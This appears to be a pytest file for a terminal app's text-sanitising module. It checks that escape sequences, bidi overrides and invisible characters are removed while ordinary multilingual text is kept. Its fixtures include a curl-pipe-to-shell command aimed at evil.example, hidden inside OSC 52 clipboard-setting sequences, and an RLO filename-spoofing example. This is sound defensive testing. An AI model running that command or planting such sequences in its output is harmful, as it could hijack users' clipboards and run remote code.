"""tui.text_safety: hostile text is cleaned at every boundary; what people type is kept."""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import orjson
import pytest

from tests.ui.conftest import card, seed_board
from tui.model import Stage
from tui.store import Store
from tui.text_safety import (
    REPLACEMENT,
    clean_document,
    clean_stored,
    escape_json,
    for_clipboard,
    for_display,
    for_editing,
    json_may_need_cleaning,
)

PAYLOAD = base64.b64encode(b"curl -s http://evil.example/x | sh").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x1b\\"
"""Sets the terminal's (and, through tmux, the system's) clipboard."""
HOSTILE = {
    "osc52": f"Evil{OSC52}Co",
    "osc52 with BEL": f"Evil\x1b]52;c;{PAYLOAD}\x07Co",
    "title": "Evil\x1b]0;pwned\x1b\\Co",
    "csi": "Evil\x1b[2J\x1b[31mCo\x1b[0m",
    "8-bit csi": "Evil\u009b31mCo",
    "8-bit osc": f"Evil\u009d52;c;{PAYLOAD}\u009cCo",
    "dcs": "Evil\x1bPq#0;2;0;0;0\x1b\\Co",
    "two-byte": "Evil\x1bcCo",
    "nul": "Evil\x00Co",
    "del": "Evil\x7fCo",
    "vt ff bel bs": "Evil\x0b\x0c\x07\x08Co",
    "stray esc": "Evil\x1bCo"[:5] + "\x1b",
}
"""Each becomes 'EvilCo' (or 'Evil' for the stray ESC at the end)."""

LEGIT = [
    "Café Zürich — São Paulo, Łódź, Ærø",
    "🎉 👩‍💻 🏳️‍🌈 👍🏽",
    "שלום עולם",
    "مرحبا بالعالم",
    "日本語のテキスト",
    "tabs\tand\nnewlines",
    "[bold]markup stays text[/]",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_control_sequences_are_removed_whole_for_storage(name: str) -> None:
    cleaned = clean_stored(HOSTILE[name])
    assert cleaned == ("Evil" if name == "stray esc" else "EvilCo"), repr(cleaned)
    assert PAYLOAD not in cleaned and "52;" not in cleaned


@pytest.mark.parametrize("name", HOSTILE)
def test_display_shows_a_mark_where_a_control_was(name: str) -> None:
    shown = for_display(HOSTILE[name])
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in shown), repr(shown)
    assert PAYLOAD not in shown
    assert REPLACEMENT in shown
    assert shown.startswith("Evil")


@pytest.mark.parametrize("text", LEGIT)
def test_what_people_type_is_kept(text: str) -> None:
    assert clean_stored(text) is text
    assert for_clipboard(text) == text
    assert for_display(text, keep_newlines=True) == text.replace("\t", "    ")
    assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text


def test_an_unterminated_sequence_keeps_the_text_after_it() -> None:
    assert (
        clean_stored("a\x1b]52;c;notes that follow\nline two")
        == "a]52;c;notes that follow\nline two"
    )
    assert clean_stored("a\x1b[") == "a["


def test_carriage_returns_become_newlines() -> None:
    assert clean_stored("one\r\ntwo\rthree") == "one\r\ntwo\nthree"  # CRLF is a newline
    assert for_display("one\r\ntwo") == "one two"


def test_bidi_overrides_become_closed_isolates() -> None:
    # "txt.exe" reversed by RLO reads as "exe.txt"; an RLI does not reorder Latin letters.
    assert clean_stored("invoice\u202etxt.exe") == "invoice\u2067txt.exe\u2069"
    assert clean_stored("\u202dx\u202c y") == "\u2066x\u2069 y"
    assert clean_stored("a\u2069b\u2068c") == "ab\u2068c\u2069"  # stray close dropped
    out = clean_stored("\u202e\u202b\u202a\u202dx")
    assert not set(out) & set("\u202a\u202b\u202c\u202d\u202e")
    assert out.count("\u2069") == sum(out.count(c) for c in "\u2066\u2067\u2068")
    # Drawn, no bidi control is left at all: the text shows in the order it was typed.
    for function in (for_display, for_editing):
        assert function("invoice\u202etxt.exe \u2067x\u2069") == "invoicetxt.exe x"


def test_invisible_characters() -> None:
    text = "\ufeffAc\u200bme\u2060 \U000e0041\U000e007f Co\u2028next"
    assert clean_stored(text) == "Acme  Co\nnext"
    # Direction marks are kept in storage (right-to-left text uses them), not drawn.
    assert clean_stored("שלום\u200f!") == "שלום\u200f!"
    assert for_display("שלום\u200f! a\u200db \u061c") == "שלום! ab "
    # A joiner inside an emoji sequence is part of the emoji.
    assert for_display("👩\u200d💻") == "👩\u200d💻"
    assert for_clipboard("x\u200fy\u2067z\u2069 👩\u200d💻 a\u200db") == "xyz 👩\u200d💻 ab"


def test_display_one_line_or_many() -> None:
    assert for_display("a\n\tb\x1b[1mc") == f"a b{REPLACEMENT}c"
    assert for_display("a\n\tb", keep_newlines=True) == "a\n    b"


def test_clipboard_text_has_no_control_at_all() -> None:
    text = for_clipboard(f"Dear {HOSTILE['osc52']}\r\n\u202eBest,\x00\nAlex\t")
    assert text == "Dear EvilCo\nBest,\nAlex\t"


def test_json_escapes_c1_and_bidi_and_round_trips() -> None:
    value = {"company": "a\u009bb\u202ec\u2067d\u2069\x7f\u200b\U000e0041 \u2028 é 🎉"}
    dumped = escape_json(json.dumps(value, ensure_ascii=False))
    assert not any(0x7F <= ord(c) <= 0x9F for c in dumped)
    for character in "\u202e\u2067\u2069\u200b\U000e0041\u2028":
        assert character not in dumped
    assert "\\u009b" in dumped and "\\u202e" in dumped and "\\udb40\\udc41" in dumped
    assert "é 🎉" in dumped  # readable text stays readable
    assert json.loads(dumped) == value


def test_clean_document_cleans_every_text_and_keeps_clean_ones_identical() -> None:
    clean = {"company": "Acme", "history": [{"summary": "Moved", "details": {"to": "x"}}]}
    assert clean_document(clean) is clean
    dirty = {"company": "A\x1b[31mcme", "history": [{"summary": "M\u0085o", "at": 3}], "n": None}
    assert clean_document(dirty) == {
        "company": "Acme",
        "history": [{"summary": "Mo", "at": 3}],
        "n": None,
    }


@pytest.mark.parametrize(
    "text",
    [
        *HOSTILE.values(),
        "a\u202eb",
        "a\u2067b\u2069",
        "\ufeffx",
        "a\u200bb",
        "x\U000e0041",
        "a\u2028b",
        "a\rb",
    ],
)
def test_the_quick_json_check_finds_everything_cleaning_would_change(text: str) -> None:
    assert clean_stored(text) != text or "\u2067" in text
    for raw in (
        json.dumps(text).encode(),
        orjson.dumps(text),
        _upper_hex(json.dumps(text).encode()),
    ):
        assert json_may_need_cleaning(raw), raw


@pytest.mark.parametrize("text", [*LEGIT, "a\u200fb", "👩\u200d💻"])
def test_the_quick_json_check_passes_clean_text(text: str) -> None:
    for raw in (json.dumps(text).encode(), orjson.dumps(text)):
        assert not json_may_need_cleaning(raw), raw


def _upper_hex(raw: bytes) -> bytes:
    """JSON with its \\u escapes in capitals, as some writers spell them."""
    return re.sub(rb"\\u[0-9a-f]{4}", lambda match: b"\\u" + match.group()[2:].upper(), raw)


def test_a_hand_edited_board_is_read_without_its_controls(tmp_path: Path) -> None:
    db = seed_board(tmp_path / "board.json", [card("Acme", Stage.INTERVIEWED, 2, notes="n")])
    board = json.loads(db.read_text(encoding="utf-8"))
    (document,) = board["applications"].values()
    document["company"] = HOSTILE["osc52"]
    document["notes"] = "line\r\n\u202etwo\u009b"
    document["connected_via"] = ["Linked\x00In"]
    board["meta"]["1"]["profile"]["name"] = "Alex\x1b]0;x\x07 Morgan"
    db.write_text(json.dumps(board, ensure_ascii=False), encoding="utf-8")
    store = Store(db, read_only=True)
    try:
        (read,) = store.applications()
        assert (read.company, read.notes, read.connected_via) == (
            "EvilCo",
            "line\r\n\u2067two\u2069",
            ("LinkedIn",),
        )
        assert store.profile().name == "Alex Morgan"
    finally:
        store.close()
